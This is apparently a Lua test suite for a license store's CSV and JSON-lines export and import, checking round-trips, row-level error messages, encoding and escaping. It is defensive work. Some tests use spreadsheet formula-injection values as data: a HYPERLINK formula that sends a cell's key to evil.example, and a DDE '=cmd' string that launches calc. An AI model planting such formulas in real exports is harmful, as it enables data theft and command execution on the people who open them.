-- Licenses in and out in bulk (lua/licensor/store/bulk.lua, csv.lua):
-- an export imports into another store as the same licenses, with their
-- installations, and exports again as the same bytes; a file with bad
-- rows, or a column the store does not know, is refused whole, naming
-- every bad row as file:line: column.  On SQLite and PostgreSQL.
local stores = require "support.stores"
local csv = require "licensor.csv"
local bulk = require "licensor.store.bulk"
local certificate = require "licensor.certificate"
local cjson = require "cjson"

-- Park-Miller: the same draws on Lua 5.4 and LuaJIT.
local function random(seed)
  local state = seed
  return function(n)
    state = state * 16807 % 2147483647
    return state % n + 1
  end
end

local machine = require("support.fixtures").machine

-- The rows of a CSV export, column name -> cell.
local function csv_rows(text)
  local rows = assert(csv.parse(text))
  local out = {}
  for r = 2, #rows do
    local row = {}
    for i, column in ipairs(rows[1]) do row[column] = rows[r][i] end
    out[#out + 1] = row
  end
  return out, rows[1]
end

local HEADER = table.concat(bulk.COLUMNS, ",")

-- A CSV line of the export's columns, these set.
local function row_of(fields)
  local values = {}
  for i, c in ipairs(bulk.COLUMNS) do values[i] = fields[c] end
  return csv.line(values, #bulk.COLUMNS)
end

local function basic(fields)
  local t = { product = "smartertrack", edition = "enterprise", level = 5, start = "2018-06-01" }
  for k, v in pairs(fields or {}) do t[k] = v end
  return row_of(t)
end

describe("export and import-licenses (" .. stores.backend .. ")", function()
  local store

  before_each(function() store = stores.new(":memory:") end)
  after_each(function() store:close() end)

  it("carries licenses with their keys, days, add-ons and owners from one store to another", function()
    local a = stores.issue(store, { owner = "acme, inc.", start = "2018-06-01", addons = { "eas" } })
    local b = stores.issue(store, { owner = "globex", kind = "lease", start = "2018-01-01" })
    store:activate(a.key, "mail1", 6911, "2018-12-05")
    local text = assert(store:export_text("csv"))
    assert.matches("^key,owner,product,edition,level,kind,start,ms_expires", text)
    assert.matches('"acme, inc."', text, 1, true)
    assert.matches('"[{""server"":""mail1"",""build"":6911,""first_seen"":""2018-12-05"",' ..
                   '""last_seen"":""2018-12-05""}]"', text, 1, true)
    local target = stores.new(":memory:")
    local keys = assert(target:import_licenses(text, "export.csv"))
    assert.are.equal(2, #keys)
    for _, lic in ipairs({ a, b }) do
      local copy = assert(target:get(lic.key))
      assert.are.same({ lic.owner, lic.start, lic.ms_expires, lic.kind, lic.addons and lic.addons.eas },
        { copy.owner, copy.start, copy.ms_expires, copy.kind, copy.addons and copy.addons.eas })
    end
    assert.are.same(store:installations(a.key), target:installations(a.key))
    assert.are.equal("import", target:events(a.key)[1].kind)
    assert.matches('"key":"' .. a.key .. '"', store:export_text("jsonl"), 1, true)
    target:close()
  end)

  it("refuses a file with bad rows whole, naming each as file:line: column: message", function()
    local existing = stores.issue(store, { start = "2018-06-01" })
    local before = stores.dump(store)
    local lines = {
      "key,owner,product,edition,level,kind,start,ms_expires,addons",
      ",fine,smartertrack,enterprise,5,perpetual,2018-01-01,2018-12-31,",
      ",,smartertrack,enterprise,5,perpetual,2018-02-30,,",
      ",,smartertrack,enterprise,15,perpetual,2018-01-01,,",
      existing.key .. ",,smartertrack,enterprise,5,perpetual,2018-01-01,,",
      ",,smartertrack,enterprise,5,perpetual,2018-01-01,,nope=2019-01-01",
      ",,smartertrack,enterprise,5,perpetual,2018-01-01,",
      ",,smartertrack,enterprise,5,perpetual,2018-01-01,,,surplus",
    }
    local rows, msg, code = store:import_licenses(table.concat(lines, "\n") .. "\n", "customers.csv")
    assert.are.same({ nil, "invalid_request" }, { rows, code })
    assert.matches("customers.csv:3: start: '2018%-02%-30' is not a date", msg)
    assert.matches("customers.csv:4: license: product 'smartertrack' enterprise has no level 15", msg)
    assert.matches("customers.csv:5: key: already in the store", msg)
    assert.matches("customers.csv:6: addons: product has no add%-on 'nope'", msg)
    assert.matches("customers.csv:7: 8 cells where the header has 9 columns", msg, 1, true)
    assert.matches("customers.csv:8: 10 cells where the header has 9 columns", msg, 1, true)
    assert.is_nil(msg:find("customers.csv:2:", 1, true))
    assert.are.equal(before, stores.dump(store))
  end)

  it("refuses a file holding a NUL byte at once, naming its line (not a text file: /dev/zero, a binary)", function()
    local ok, msg, code = store:import_licenses("key,product\nabc\0def,x\n", "bin.csv")
    assert.are.same({ nil, "bin.csv:2: a NUL byte: not a CSV text file", "invalid_request" }, { ok, msg, code })
    ok, msg = store:import_licenses(string.rep("\0", 8 * 1024 * 1024), "zero")
    assert.are.same({ nil, "zero:1: a NUL byte: not a CSV text file" }, { ok, msg })
  end)

  it("refuses an unknown or misspelt column, naming it, instead of ignoring what it holds", function()
    local before = stores.dump(store)
    local function refusal(header)
      local ok, msg, code = store:import_licenses(header .. "\n", "customers.csv")
      assert.are.same({ nil, "invalid_request" }, { ok, code })
      return msg
    end
    assert.matches("^customers.csv:1: unknown column 'ownr' %(did you mean owner%?%)",
      refusal("ownr,product,edition,level,start"))
    assert.matches("^customers.csv:1: unknown column 'Key' %(did you mean key%?%)",
      refusal("Key,product,edition,level,start"))
    assert.matches("^customers.csv:1: unknown column 'colour'; the columns are key,owner,",
      refusal("product,edition,level,start,colour"))
    assert.matches("^customers.csv:1: unknown column '\239\187\191key'",
      refusal("\239\187\191\239\187\191key,product,edition,level,start"))
    assert.are.equal("customers.csv:1: column 6 has no name", refusal("product,edition,level,start,owner,"))
    assert.are.equal("customers.csv:1: column owner appears twice",
      refusal("owner,product,edition,level,start,owner"))
    assert.are.equal("customers.csv:1: the header has no column start", refusal("product,edition,level"))
    assert.are.equal(before, stores.dump(store))
  end)

  it("reads a file that starts with a UTF-8 byte order mark (Excel's CSV UTF-8) as if it had none", function()
    local a = stores.issue(store, { owner = "acme" })
    local text = assert(store:export_text("csv"))
    local target = stores.new(":memory:")
    assert.are.same({ a.key }, assert(target:import_licenses(csv.BOM .. text:gsub("\n", "\r\n"), "excel.csv")))
    assert.are.equal("acme", assert(target:get(a.key)).owner)
    assert.are.equal(text, assert(target:export_text("csv")))
    local ok, msg = target:import_licenses("\255\254k\0e\0y\0", "unicode.txt")
    assert.is_nil(ok)
    assert.are.equal("unicode.txt:1: UTF-16 text; save it as CSV UTF-8", msg)
    target:close()
  end)

  it("exports an owner a spreadsheet would run as a formula behind one ', and imports it without", function()
    local owners = { '=HYPERLINK("https://evil.example/?k="&A2,"Renew")', "+1 555 0100", "-acme-", "@acme",
                     "'quoted'", "'" }
    local keys = {}
    for i, owner in ipairs(owners) do keys[i] = stores.issue(store, { owner = owner }).key end
    local text = assert(store:export_text("csv"))
    assert.matches([[,"'=HYPERLINK(""https://evil.example/?k=""&A2,""Renew"")",]], text, 1, true)
    for line in text:gmatch("[^\n]+") do
      local second = line:match("^[^,]*,(.?)")
      assert.is_falsy(second == "=" or second == "+" or second == "-" or second == "@", line)
    end
    local target = stores.new(":memory:")
    assert(target:import_licenses(text, "export.csv"))
    for i, owner in ipairs(owners) do assert.are.equal(owner, assert(target:get(keys[i])).owner) end
    target:close()
  end)

  it("export, import, export is byte-identical, installations and the slots certificates hold included",
    function()
      local key_path = os.tmpname()
      os.remove(key_path)
      assert(certificate.new_key_files(key_path))
      assert(store:use_signing_key(key_path))
      local a = stores.issue(store, { owner = '=HYPERLINK("x")', addons = { "eas" }, email = "it@acme.example" })
      local b = stores.issue(store, { owner = "globex", kind = "lease", start = "2018-01-01", failover = true })
      local c = stores.issue(store, { owner = "initech", kind = "trial", start = "2018-11-20", trial_days = 30 })
      local d = stores.issue(store, { owner = "'single", version_lock = 13 })
      local servers = { 'mail@one;two,"three"', "=cmd|' /C calc'!A0", "serveur é 中 🙂", "'quoted", "@" }
      assert.is_true(store:activate(a.key, servers[1], 6911, "2018-12-05", machine(1)).ok)
      assert(store:certificate(a.key, servers[1], "2018-12-05"))
      store:deactivate(a.key, servers[1], "2018-12-06")                        -- held by its certificate
      assert.is_true(store:activate(a.key, servers[2], 6911, "2018-12-06").ok)
      store:deactivate(a.key, servers[2], "2018-12-07", { force = true, reason = "lost" })
      assert.is_true(store:activate(b.key, servers[3], 6911, "2018-12-05", machine(2)).ok)
      local drifted = machine(2):gsub("mac=%x+", "mac=0000000000000000")
      assert.is_true(store:checkin(b.key, servers[3], "2018-12-06", nil, drifted).ok)
      assert(store:certificate(b.key, servers[3], "2018-12-06"))
      assert.is_true(store:activate(b.key, servers[4], 6911, "2018-12-06", machine(3)).ok)
      assert.is_true(store:activate(c.key, servers[5], 6911, "2018-12-05").ok)
      assert.is_true(store:activate(d.key, servers[5], 6855, "2018-12-05", machine(4)).ok)
      assert(store:certificate(d.key, servers[5], "2018-12-05"))
      assert.is_true(store:activate(d.key, "moved", 6855, "2018-12-06", machine(4)).ok)  -- the same machine
      assert(store:end_lease(b.key, "2019-06-01"))
      store:disable(c.key, "2018-12-10", "chargeback")
      os.remove(key_path)
      os.remove(key_path .. ".pub")

      local first = assert(store:export_text("csv"))
      local target = stores.new(":memory:")
      assert.are.equal(4, #assert(target:import_licenses(first, "export.csv")))
      local second = assert(target:export_text("csv"))
      assert.are.equal(first, second)
      for _, lic in ipairs({ a, b, c, d }) do
        assert.are.same(store:installations(lic.key), target:installations(lic.key))
      end
      local freed = {}
      for _, inst in ipairs(target:installations(a.key)) do freed[#freed + 1] = inst.freed or "-" end
      assert.are.same({ "-", "forced" }, freed)
      assert.are.equal("2019-01-18", target:installations(a.key)[1].held_until)
      assert.are.equal(store:export_text("jsonl"), target:export_text("jsonl"))
      target:close()
    end)

  it("writes JSON lines that say what the CSV says, typed, columns in the same order", function()
    local a = stores.issue(store, { owner = "acme\"s ;@", addons = { "eas" } })
    stores.issue(store, { owner = "-x", level = "unlimited", kind = "trial", trial_days = 30 })
    store:activate(a.key, "a@b;c", 6911, "2018-12-05")
    local rows = csv_rows(assert(store:export_text("csv")))
    local lines = {}
    for line in assert(store:export_text("jsonl")):gmatch("[^\n]+") do lines[#lines + 1] = line end
    assert.are.equal(#rows, #lines)
    for i, line in ipairs(lines) do
      local object, last = cjson.decode(line), 0
      for column in line:gmatch('"([%w_]+)":') do
        local at = 0
        for n, c in ipairs(bulk.COLUMNS) do if c == column then at = n end end
        if at > 0 then
          assert.is_true(at > last, line)
          last = at
        end
      end
      for _, column in ipairs(bulk.COLUMNS) do
        local cell, value = rows[i][column], object[column]
        if column == "installations" then
          assert.are.same(assert(bulk.read_installations(cell)), value)
        elseif type(value) == "boolean" or type(value) == "number" then
          assert.are.equal(cell, tostring(value):gsub("%.0$", ""))
        else
          assert.are.equal(cell, value or "")
        end
      end
    end
    assert.matches('"level":5,', lines[1] .. lines[2], 1, true)
    assert.matches('"level":"unlimited"', lines[1] .. lines[2], 1, true)
  end)

  it("round-trips 10,000 random owners and server names through export and import", function()
    local draw = random(6911)
    local pieces = {}
    for b = 32, 126 do pieces[#pieces + 1] = string.char(b) end
    for _, s in ipairs({ "=", "+", "-", "@", "'", '"', ",", ";", "é", "ß", "Ω", "中", "文", "🙂", "ש",
                         "\u{0301}", "\u{00A0}", "\u{200B}", "\u{FEFF}", "\u{2028}", "\u{FFFD}" }) do
      for _ = 1, 4 do pieces[#pieces + 1] = s end
    end
    local function name()
      local parts, bytes = {}, 0
      for _ = 1, draw(24) do
        local p = pieces[draw(#pieces)]
        if bytes + #p > 255 then break end
        parts[#parts + 1], bytes = p, bytes + #p
      end
      return table.concat(parts)
    end
    local owners, servers, lines = {}, {}, { HEADER }
    for i = 1, 10000 do
      owners[i], servers[i] = name(), name()
      lines[#lines + 1] = basic({ owner = owners[i], installations = bulk.installations_cell({
        { server = servers[i], build = 6911, first_seen = "2018-12-05", last_seen = "2018-12-05" } }) })
    end
    local keys = assert(store:import_licenses(table.concat(lines, "\n") .. "\n", "random.csv"))
    local first = assert(store:export_text("csv"))
    local target = stores.new(":memory:")
    assert.are.equal(10000, #assert(target:import_licenses(first, "export.csv")))
    assert.are.equal(first, assert(target:export_text("csv")))
    local by_key = {}
    for _, r in ipairs(assert(target:export())) do by_key[r.key] = r end
    for i, key in ipairs(keys) do
      local r = by_key[key]
      if r.owner ~= owners[i] or r.installations[1].server ~= servers[i] then
        error(("license %d: %q, %q came back as %q, %q"):format(i, owners[i], servers[i], tostring(r.owner),
          tostring(r.installations[1].server)))
      end
    end
    target:close()
  end)

  it("writes 10,000 random server names of any bytes, control characters included, into cells that read back",
    function()
      local draw = random(1205)
      local function name()
        local bytes = {}
        for i = 1, draw(40) do bytes[i] = string.char(draw(256) - 1) end
        return table.concat(bytes)
      end
      local lines, names = {}, {}
      for i = 1, 10000 do
        names[i] = { name(), name() }
        local list = {}
        for j, server in ipairs(names[i]) do
          list[j] = { server = server, build = j, first_seen = "2018-12-05", last_seen = "2018-12-05" }
        end
        local cell = bulk.installations_cell(list)
        assert.is_nil(cell:find("[%z\1-\31\127]"))           -- escaped: no raw control character
        lines[i] = csv.line({ name(), cell })
      end
      local rows = assert(csv.parse(table.concat(lines, "\n") .. "\n"))
      assert.are.equal(10000, #rows)
      for i, row in ipairs(rows) do
        local list = cjson.decode(row[2])
        assert.are.same(names[i], { list[1].server, list[2].server })
      end
    end)

  it("refuses an installations cell it cannot read, naming the installation and its field", function()
    local before = stores.dump(store)
    local function cell(list) return type(list) == "string" and list or cjson.encode(list) end
    local bad = {
      { "[{", "installations: not JSON" },
      { { { server = "a" } }, "installations: 1: build: required" },
      { { server = "a" }, 'installations: a JSON array [{"server":...},...] expected' },
      { { { server = "a", build = 1, first_seen = "2018-12-05", last_seen = "2018-12-05", colour = "red" } },
        "installations: 1: no field 'colour'" },
      { { { server = "a\nb", build = 1, first_seen = "2018-12-05", last_seen = "2018-12-05" } },
        "installations: 1: server holds a control or bidirectional-override character" },
      { { { server = "a", build = 1, first_seen = "2018-12-05", last_seen = "2018-12-05" },
          { server = "b", build = "6911", first_seen = "2018-12-05", last_seen = "2018-12-05" } },
        "installations: 2: build: a whole number expected" },
      { { { server = "a", build = 1, first_seen = "2018-12-05", last_seen = "2018-12-04" } },
        "installations: 1: last_seen: before first_seen" },
      { { { server = "a", build = 1, first_seen = "2018-12-05", last_seen = "2018-12-05", freed = "lost" } },
        "installations: 1: freed: moved, returned or forced expected" },
    }
    local lines = { HEADER }
    for _, case in ipairs(bad) do lines[#lines + 1] = basic({ installations = cell(case[1]) }) end
    local ok, msg = store:import_licenses(table.concat(lines, "\n") .. "\n", "x.csv")
    assert.is_nil(ok)
    for i, case in ipairs(bad) do
      assert.matches("x.csv:" .. (i + 1) .. ": " .. case[2], msg, 1, true)
    end
    assert.are.equal(before, stores.dump(store))
  end)

  it("exports a server name it would refuse today escaped in its one cell, and refuses it on import", function()
    local a = stores.issue(store)
    store:activate(a.key, "plain", 6911, "2018-12-05")
    local char = stores.sqlite and "char" or "chr"
    store.db:exec("UPDATE installations SET server = 'x' || " .. char .. "(10) || '@;' || " .. char .. "(1)")
    local text = assert(store:export_text("csv"))
    local rows = csv_rows(text)
    assert.are.equal(1, #rows)
    assert.are.equal("x\n@;\1", assert(bulk.read_installations(nil) and cjson.decode(rows[1].installations))[1].server)
    assert.matches('""server"":""x\\n@;\\u0001""', text, 1, true)
    local target = stores.new(":memory:")
    local ok, msg = target:import_licenses(text, "old.csv")
    assert.is_nil(ok)
    assert.are.equal("old.csv:2: installations: 1: server holds a control or bidirectional-override character", msg)
    target:close()
  end)
end)
